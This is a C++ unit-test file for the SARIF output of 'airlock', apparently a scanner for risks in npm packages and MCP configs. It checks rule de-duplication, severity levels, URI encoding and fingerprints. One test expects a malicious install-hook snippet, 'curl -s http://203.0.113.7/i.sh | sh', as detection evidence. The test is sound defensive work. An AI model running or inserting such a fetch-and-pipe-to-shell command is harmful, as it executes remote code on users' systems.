// sarif reporter: SARIF 2.1.0 as the official validator accepts it (tests/sarif/NOTES.md),
// checked by parsing the log back: rule de-duplication and ruleIndex consistency (the
// validator does not check the latter), level mapping, 1-based regions, uriBaseId
// convention, notifications for failed targets.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <vector>

#include "airlock/report/reporter.h"
#include "report_test_support.h"

namespace airlock::report {
namespace {

using nlohmann::json;
using namespace ::airlock::report::testing;  // NOLINT(build/namespaces)

json render_sarif(const Scenario& sc) {
  const std::string out = render(Format::kSarif, sc);
  EXPECT_FALSE(out.empty());
  EXPECT_EQ(out.back(), '\n');
  return json::parse(out);
}

const json& run0(const json& doc) { return doc.at("runs").at(0); }

std::set<std::string> keys(const json& j) {
  std::set<std::string> k;
  for (const auto& [key, value] : j.items()) k.insert(key);
  return k;
}

TEST(ReportSarif, LogSkeleton) {
  const json doc =
      render_sarif(Scenario{{make_target(0, "x.tgz")}, {make_finding(0, Severity::kHigh)}, {}});
  EXPECT_EQ(doc["$schema"], "https://json.schemastore.org/sarif-2.1.0.json");
  EXPECT_EQ(doc["version"], "2.1.0");
  ASSERT_EQ(doc["runs"].size(), 1u);
  const json& driver = run0(doc)["tool"]["driver"];
  EXPECT_EQ(driver["name"], "airlock");
  EXPECT_EQ(driver["version"], "0.1.0");
  EXPECT_EQ(driver["semanticVersion"], "0.1.0");
  const std::string info = driver["informationUri"];
  EXPECT_EQ(info.rfind("https://", 0), 0u);  // must be absolute
  EXPECT_EQ(run0(doc)["invocations"].size(), 1u);
}

TEST(ReportSarif, EmptyRunHasEmptyRulesAndResults) {
  const json doc = render_sarif(Scenario{});
  EXPECT_EQ(run0(doc)["tool"]["driver"]["rules"], json::array());
  EXPECT_EQ(run0(doc)["results"], json::array());
  EXPECT_FALSE(run0(doc).contains("originalUriBaseIds"));
  EXPECT_TRUE(run0(doc)["invocations"][0]["executionSuccessful"]);
}

TEST(ReportSarif, RulesAreDeduplicatedAndRuleIndexMatches) {
  Finding a = make_finding(0, Severity::kMedium, "install-hook-download-exec");
  a.help = "Do not install this package.";
  Finding b = make_finding(0, Severity::kLow, "bundled-binary");
  b.message = "The package ships a prebuilt executable 'bin/x'";
  Finding c = make_finding(0, Severity::kCritical, "install-hook-download-exec");
  c.message = "a later, different message";
  Finding d = make_finding(1, Severity::kInfo, "bundled-binary");
  const json doc =
      render_sarif(Scenario{{make_target(0, "a.tgz"), make_target(1, "b.tgz")}, {a, b, c, d}, {}});
  const json& rules = run0(doc)["tool"]["driver"]["rules"];
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[0]["id"], "install-hook-download-exec");
  EXPECT_EQ(rules[1]["id"], "bundled-binary");
  EXPECT_EQ(rules[0]["name"], "InstallHookDownloadExec");
  EXPECT_EQ(rules[1]["name"], "BundledBinary");
  // First occurrence describes the rule; help falls back to the message.
  EXPECT_EQ(rules[0]["shortDescription"]["text"],
            "postinstall downloads a script and pipes it to a shell.");
  EXPECT_EQ(rules[0]["fullDescription"]["text"], "Do not install this package.");
  EXPECT_EQ(rules[0]["help"]["text"], "Do not install this package.");
  EXPECT_EQ(rules[1]["help"]["text"], "The package ships a prebuilt executable 'bin/x'.");
  // Rule defaults follow the worst occurrence.
  EXPECT_EQ(rules[0]["defaultConfiguration"]["level"], "error");
  EXPECT_EQ(rules[0]["properties"]["security-severity"], "9.5");
  EXPECT_EQ(rules[1]["defaultConfiguration"]["level"], "note");
  EXPECT_EQ(rules[1]["properties"]["security-severity"], "2.0");

  const json& results = run0(doc)["results"];
  ASSERT_EQ(results.size(), 4u);
  for (const json& r : results) {
    const std::size_t idx = r["ruleIndex"];
    ASSERT_LT(idx, rules.size());
    EXPECT_EQ(rules[idx]["id"], r["ruleId"]);
  }
  EXPECT_EQ(results[2]["ruleIndex"], 0);
  EXPECT_EQ(results[3]["ruleIndex"], 1);
  std::set<std::string> ids;
  for (const json& r : rules) EXPECT_TRUE(ids.insert(r["id"]).second);
}

TEST(ReportSarif, RuleTagsAreUniqueAndCarryCategory) {
  Finding f = make_finding(0, Severity::kHigh);
  const json doc = render_sarif(Scenario{{make_target(0, "x.tgz")}, {f}, {}});
  const json& props = run0(doc)["tool"]["driver"]["rules"][0]["properties"];
  EXPECT_EQ(props["tags"], (json{"security", "supply-chain", "download-exec"}));
  EXPECT_EQ(props["category"], "download-exec");
  EXPECT_TRUE(props["security-severity"].is_string());
}

TEST(ReportSarif, LevelAndSecuritySeverityMapping) {
  const std::vector<std::tuple<Severity, std::string, std::string>> cases = {
      {Severity::kCritical, "error", "9.5"},
      {Severity::kHigh, "error", "8.0"},
      {Severity::kMedium, "warning", "5.0"},
      {Severity::kLow, "note", "2.0"},
      {Severity::kInfo, "note", ""}};
  for (const auto& [sev, level, score] : cases) {
    Finding f = make_finding(0, sev, std::string("rule-") + std::string(to_string(sev)));
    const json doc = render_sarif(Scenario{{make_target(0, "x.tgz")}, {f}, {}});
    const json& result = run0(doc)["results"][0];
    const json& rule = run0(doc)["tool"]["driver"]["rules"][0];
    EXPECT_EQ(result["level"], level) << to_string(sev);
    EXPECT_EQ(result["properties"]["severity"], std::string(to_string(sev)));
    EXPECT_EQ(rule["defaultConfiguration"]["level"], level);
    if (score.empty()) {
      EXPECT_FALSE(rule["properties"].contains("security-severity"));
    } else {
      EXPECT_EQ(rule["properties"]["security-severity"], score);
    }
  }
}

TEST(ReportSarif, LocationsRegionsAndSnippets) {
  Finding line = make_finding(0, Severity::kHigh);
  line.location = Location{"package.json", 1};
  Finding whole = make_finding(0, Severity::kMedium, "bundled-binary");
  whole.location = Location{"bin/helper", 0};
  whole.evidence =
      "\x7f"
      "ELF";
  Finding none = make_finding(0, Severity::kLow, "provenance-missing");
  none.location.reset();
  const json doc = render_sarif(Scenario{{make_target(0, "x.tgz")}, {line, whole, none}, {}});
  const json& results = run0(doc)["results"];

  const json& phys = results[0]["locations"][0]["physicalLocation"];
  EXPECT_EQ(phys["artifactLocation"]["uri"], "package.json");
  EXPECT_EQ(phys["artifactLocation"]["uriBaseId"], "TARGET0");
  EXPECT_EQ(phys["region"]["startLine"], 1);
  EXPECT_EQ(phys["region"]["snippet"]["text"], "curl -s http://203.0.113.7/i.sh | sh");

  // Line 0 = the whole file: no region (never startLine 0, never an empty region), and the
  // evidence is kept in the result's properties.
  const json& whole_phys = results[1]["locations"][0]["physicalLocation"];
  EXPECT_EQ(whole_phys["artifactLocation"]["uri"], "bin/helper");
  EXPECT_FALSE(whole_phys.contains("region"));
  EXPECT_EQ(results[1]["properties"]["evidence"],
            "\x7f"
            "ELF");

  // About the target as a whole: no locations at all.
  EXPECT_FALSE(results[2].contains("locations"));
  EXPECT_EQ(results[2]["properties"]["target"], 0);
  EXPECT_EQ(results[2]["properties"]["targetName"], "x");
  EXPECT_EQ(results[2]["properties"]["targetVersion"], "1.0.0");
  EXPECT_EQ(results[0]["properties"]["attack"], (json{"T1059.004", "T1105"}));
  EXPECT_EQ(results[0]["properties"]["references"], (json{"SAFE-T1006"}));
}

TEST(ReportSarif, UriBaseIdsAreAbsoluteDirectoryLikeAndOnlyForLocatedTargets) {
  Finding located = make_finding(1, Severity::kHigh);
  located.location = Location{"lib/a b#c%d?e:f\xc3\xa9.js", 3};
  Finding unlocated = make_finding(0, Severity::kHigh);
  unlocated.location.reset();
  const json doc = render_sarif(
      Scenario{{make_target(0, "/abs/first.tgz"), make_target(1, "/tmp/with space/evil-1.0.0.tgz")},
               {unlocated, located},
               {}});
  const json& bases = run0(doc)["originalUriBaseIds"];
  EXPECT_FALSE(bases.contains("TARGET0"));
  ASSERT_TRUE(bases.contains("TARGET1"));
  EXPECT_EQ(bases["TARGET1"]["uri"], "file:///tmp/with%20space/evil-1.0.0.tgz/");
  EXPECT_EQ(bases["TARGET1"]["description"]["text"], "Target 1: npm-tarball x@1.0.0.");
  const json& loc = run0(doc)["results"][1]["locations"][0]["physicalLocation"];
  EXPECT_EQ(loc["artifactLocation"]["uri"], "lib/a%20b%23c%25d%3Fe%3Af%C3%A9.js");
  EXPECT_EQ(loc["artifactLocation"]["uriBaseId"], "TARGET1");
}

TEST(ReportSarif, ALocationThatIsTheTargetFileItselfGetsTheFilesOwnUri) {
  // `airlock mcp`: the target is one config file and the finding points at that file.
  Finding f = make_finding(0, Severity::kHigh);
  f.location = Location{"/home/u/.claude.json", 4};
  const json doc = render_sarif(Scenario{{make_target(0, "/home/u/.claude.json")}, {f}, {}});
  EXPECT_FALSE(run0(doc).contains("originalUriBaseIds"));
  const json& loc = run0(doc)["results"][0]["locations"][0]["physicalLocation"];
  EXPECT_EQ(loc["artifactLocation"]["uri"], "file:///home/u/.claude.json");
  EXPECT_FALSE(loc["artifactLocation"].contains("uriBaseId"));
  EXPECT_EQ(loc["region"]["startLine"], 4);
}

TEST(ReportSarif, RelativeTargetPathsBecomeNormalisedAbsoluteUris) {
  Finding f = make_finding(0, Severity::kHigh);
  const json doc = render_sarif(Scenario{{make_target(0, "sub/../pkg dir/")}, {f}, {}});
  const std::string uri = run0(doc)["originalUriBaseIds"]["TARGET0"]["uri"];
  const std::string cwd = std::filesystem::current_path().generic_string();
  EXPECT_EQ(uri.rfind("file:///", 0), 0u) << uri;
  EXPECT_TRUE(uri.ends_with("/pkg%20dir/")) << uri;
  const bool plain_cwd =
      cwd.find_first_not_of(
          "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~/") ==
      std::string::npos;
  if (plain_cwd) {
    EXPECT_EQ(uri, "file://" + cwd + "/pkg%20dir/");
  }
  EXPECT_EQ(uri.find(".."), std::string::npos) << uri;
  EXPECT_EQ(uri.find("//", 7), std::string::npos) << uri;
}

TEST(ReportSarif, ArtifactsRecordTargetsWithHashes) {
  TargetInfo dir{1, "/abs/pkg", "npm-package", "p", "", "", ""};
  const json doc = render_sarif(Scenario{{make_target(0, "/abs/x.tgz"), dir}, {}, {}});
  const json& arts = run0(doc)["artifacts"];
  ASSERT_EQ(arts.size(), 2u);
  EXPECT_EQ(arts[0]["location"]["uri"], "file:///abs/x.tgz");
  EXPECT_EQ(arts[0]["hashes"]["sha-256"], "ab12");
  EXPECT_EQ(arts[0]["properties"]["name"], "x");
  EXPECT_FALSE(arts[1].contains("hashes"));
  EXPECT_FALSE(arts[1]["properties"].contains("version"));
}

TEST(ReportSarif, ErrorsBecomeToolExecutionNotifications) {
  Scenario sc{{make_target(0, "/abs/ok.tgz"), make_target(1, "/abs/broken.tgz")},
              {make_finding(0, Severity::kHigh)},
              {{1, "cannot open archive"}, {-1, "cannot read stdin"}}};
  const json doc = render_sarif(sc);
  const json& inv = run0(doc)["invocations"][0];
  EXPECT_EQ(inv["exitCode"], 1);
  EXPECT_TRUE(inv["executionSuccessful"]);
  const json& notes = inv["toolExecutionNotifications"];
  ASSERT_EQ(notes.size(), 2u);
  EXPECT_EQ(notes[0]["level"], "error");
  EXPECT_EQ(notes[0]["message"]["text"], "cannot open archive.");
  EXPECT_EQ(notes[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "file:///abs/broken.tgz");
  EXPECT_EQ(notes[0]["properties"]["target"], 1);
  EXPECT_FALSE(notes[1].contains("locations"));
  EXPECT_FALSE(notes[1].contains("properties"));
}

TEST(ReportSarif, ExecutionUnsuccessfulWhenErrorsDecideTheRun) {
  Scenario sc{{make_target(0, "/abs/broken.tgz")},
              {make_finding(0, Severity::kLow)},
              {{0, "cannot open archive"}}};
  const json doc = render_sarif(sc);
  const json& inv = run0(doc)["invocations"][0];
  EXPECT_EQ(inv["exitCode"], 2);
  EXPECT_FALSE(inv["executionSuccessful"]);
}

TEST(ReportSarif, MessagesAreSentences) {
  Finding f = make_finding(0, Severity::kHigh);
  f.message = "Already a sentence.";
  Finding g = make_finding(0, Severity::kHigh, "other");
  g.message = "no period  ";
  const json doc = render_sarif(Scenario{{make_target(0, "x.tgz")}, {f, g}, {}});
  EXPECT_EQ(run0(doc)["results"][0]["message"]["text"], "Already a sentence.");
  EXPECT_EQ(run0(doc)["results"][1]["message"]["text"], "no period.");
}

TEST(ReportSarif, InvalidUtf8AndControlCharsStayValidJson) {
  Finding f = make_finding(0, Severity::kHigh);
  static const char kRaw[] = "a\x1b[31m\xff\xfe\x00z";
  f.evidence = std::string(kRaw, sizeof(kRaw) - 1);
  f.location = Location{"p\xff.js", 2};
  std::string out;
  ASSERT_NO_THROW(out = render(Format::kSarif, Scenario{{make_target(0, "x\xff.tgz")}, {f}, {}}));
  EXPECT_EQ(out.find('\x1b'), std::string::npos);
  json doc;
  ASSERT_NO_THROW(doc = json::parse(out));
  const json& phys = run0(doc)["results"][0]["locations"][0]["physicalLocation"];
  EXPECT_EQ(phys["artifactLocation"]["uri"], "p%FF.js");  // percent-encoded, not replaced
  const std::string snippet = phys["region"]["snippet"]["text"];
  EXPECT_NE(snippet.find("\xEF\xBF\xBD"), std::string::npos);
}

TEST(ReportSarif, FingerprintsAreStableAcrossLineMoves) {
  Finding a = make_finding(0, Severity::kHigh);
  Finding b = a;
  b.location->line = 40;
  Finding c = a;
  c.evidence = "something else";
  const json doc = render_sarif(Scenario{{make_target(0, "x.tgz")}, {a, b, c}, {}});
  const json& r = run0(doc)["results"];
  const auto fp = [&](int i) { return r[i]["partialFingerprints"]["airlockFindingHash/v1"]; };
  EXPECT_EQ(fp(0), fp(1));
  EXPECT_NE(fp(0), fp(2));
  EXPECT_EQ(fp(0).get<std::string>().size(), 16u);
}

// Our output has the shape of the validated reference log (same keys on the same objects),
// so what the validator accepted there holds here.
TEST(ReportSarif, MatchesShapeOfValidatedExample) {
  const auto path = std::filesystem::path(AIRLOCK_SOURCE_DIR) / "tests/sarif/example.sarif";
  std::ifstream in(path);
  if (!in) GTEST_SKIP() << "no " << path;
  const json ex = json::parse(in);
  const json& ex_run = run0(ex);

  Finding line = make_finding(0, Severity::kHigh);
  line.help = "Do not install this package.";
  const json doc =
      render_sarif(Scenario{{make_target(0, "/tmp/x.tgz")}, {line}, {{1, "cannot open archive"}}});
  const json& run = run0(doc);
  EXPECT_EQ(keys(doc), keys(ex));
  for (const auto& k : keys(ex_run)) EXPECT_TRUE(run.contains(k)) << k;
  EXPECT_EQ(keys(run["tool"]["driver"]), keys(ex_run["tool"]["driver"]));
  EXPECT_EQ(keys(run["tool"]["driver"]["rules"][0]), keys(ex_run["tool"]["driver"]["rules"][0]));
  EXPECT_EQ(keys(run["tool"]["driver"]["rules"][0]["properties"]),
            keys(ex_run["tool"]["driver"]["rules"][0]["properties"]));
  const json& ex_result = ex_run["results"][0];
  for (const auto& k : keys(ex_result)) EXPECT_TRUE(run["results"][0].contains(k)) << k;
  EXPECT_EQ(keys(run["results"][0]["locations"][0]["physicalLocation"]["region"]),
            keys(ex_result["locations"][0]["physicalLocation"]["region"]));
  EXPECT_EQ(keys(run["originalUriBaseIds"]["TARGET0"]),
            keys(ex_run["originalUriBaseIds"]["TARGET0"]));
  EXPECT_EQ(keys(run["invocations"][0]), keys(ex_run["invocations"][0]));
}

}  // namespace
}  // namespace airlock::report
